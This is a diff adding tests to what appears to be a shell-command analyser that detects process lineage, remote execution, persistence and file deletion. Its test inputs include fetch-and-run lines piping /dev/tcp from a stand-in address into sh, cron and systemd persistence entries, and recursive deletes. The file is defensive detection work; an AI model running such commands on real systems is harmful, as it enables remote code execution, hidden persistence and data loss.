@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
-import { base64, bash, commands, lineage, processOf } from './support.ts';
+import { base64, bash, commands, files, lineage, processOf } from './support.ts';
 
 describe('a program that runs another', () => {
   it.each([
@@ -56,6 +56,21 @@ describe('a program that runs another', () => {
     ['sudo bash -c \'sudo bash -c "nmap x"\'', ['sudo', 'bash', 'sudo', 'bash', 'nmap']],
     ['uv run nmap x', ['uv', 'nmap']],
     ['conda run -n e nmap x', ['conda', 'nmap']],
+    ['chrt -r 1 nmap x', ['chrt', 'nmap']],
+    ['taskset -c 0-3 nmap x', ['taskset', 'nmap']],
+    ['cgexec -g cpu:a nmap x', ['cgexec', 'nmap']],
+    ['bwrap --ro-bind / / --dev /dev nmap x', ['bwrap', 'nmap']],
+    ['systemd-nspawn -D /m nmap x', ['systemd-nspawn', 'nmap']],
+    ['setarch x86_64 -R nmap x', ['setarch', 'nmap']],
+    ['xvfb-run -a nmap x', ['xvfb-run', 'nmap']],
+    ['gosu op nmap x', ['gosu', 'nmap']],
+    ["capsh --drop=all -- -c 'nmap x'", ['capsh', 'nmap']],
+    ["nix-shell -p a --run 'nmap x'", ['nix-shell', 'nmap']],
+    ['guix shell a -- nmap x', ['guix', 'nmap']],
+    ["$SHELL -c 'nmap x'", ['$SHELL', 'nmap']],
+    ["bash -euo pipefail -c 'nmap x'", ['bash', 'nmap']],
+    ['find . -exec sh -c \'nmap "$1"\' _ {} \\;', ['find', 'sh', 'nmap']],
+    ["su -l op -c 'nmap x'", ['su', 'nmap']],
   ])('%s is the parent of it', (text, expected) => expect(lineage(bash(text), 'nmap')).toEqual(expected));
 
   it('says whose the process is', () => {
@@ -77,6 +92,11 @@ describe('a program that runs another', () => {
     ['kubectl run r --image=alpine -- nmap x', 'r'],
     ['lxc exec c -- nmap x', 'c'],
     ["ansible all -m shell -a 'nmap x'", 'all'],
+    ['kubectl debug node/n -it --image=a -- nmap x', 'node/n'],
+    ['oc rsh pod nmap x', 'pod'],
+    ['apptainer exec -B /m image.sif nmap x', 'image.sif'],
+    ['incus exec c -- nmap x', 'c'],
+    ["echo 'nmap x' | ssh h bash", 'h'],
   ])('%s runs it elsewhere, at %s', (text, place) =>
     expect(processOf(bash(text), 'nmap').remote).toBe(place),
   );
@@ -92,7 +112,43 @@ describe('a program that runs another', () => {
     ["batch <<'E'\nnmap x\nE"],
     ["echo '* * * * * nmap x' | crontab -"],
     ["(crontab -l; echo '@reboot nmap x') | crontab -"],
+    ['crontab - <<E\n* * * * * nmap x\nE'],
+    ["echo '* * * * * root nmap x' > /etc/cron.d/a"],
+    ["echo '*/5 * * * * root nmap x' | sudo tee -a /etc/crontab"],
+    ["printf '#!/bin/sh\\nnmap x\\n' > /etc/cron.daily/a"],
+    ['cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=-/usr/bin/env nmap x\nE'],
+    ['tmux new -s a -d bash -c "nmap x"'],
   ])('%s leaves it running', (text) => expect(processOf(bash(text), 'nmap').background).toBe(true));
+
+  it('tells what `find` finds by its pattern', () => {
+    expect(files(bash("rm -rf $(find /var/log -name '*.log')"))).toContain('delete /var/log/**/*.log');
+    expect(files(bash('find / -type f | xargs rm -f'))).toContain('delete /**');
+    expect(files(bash('find /srv -name a | while read -r f; do rm "$f"; done'))).toContain(
+      'delete /srv/**/a',
+    );
+    expect(files(bash("find /srv -printf '%f\\n' | xargs rm"))).toEqual([]);
+  });
+
+  it('gives parallel its items, one after the other', () => {
+    expect(commands(bash("parallel 'nmap -p 1 {}' ::: a b"))).toEqual(
+      expect.arrayContaining(['nmap -p 1 a', 'nmap -p 1 b']),
+    );
+    expect(commands(bash('echo a | parallel nmap {}'))).toContain('nmap a');
+  });
+
+  it.each([
+    ["sh -c 'cat < /dev/tcp/203.0.113.4/80 | sh -s'"],
+    ['exec 3<>/dev/tcp/203.0.113.4/80; cat <&3 | sh -s'],
+    ['bash -s < /dev/tcp/203.0.113.4/80'],
+  ])('knows where the code comes from: %s', (text) => {
+    const shell = bash(text).find((action) => action.kind === 'process' && action.argv[1] === '-s');
+    expect(shell).toMatchObject({ downloaded: 'tcp://203.0.113.4:80' });
+  });
+
+  it('takes a program to be where `which` says', () => {
+    for (const asked of ['$(which curl)', '$(command -v curl)', '`which curl`', '$(type -p curl)'])
+      expect(files(bash(`cp ${asked} /dev/shm/.u`))).toEqual(['read /usr/bin/curl', 'create /dev/shm/.u']);
+  });
 
   it('makes one text of what `screen -X stuff` types', () => {
     expect(commands(bash("screen -S a -X stuff $'nmap x\\n'"))).toContain('nmap x');
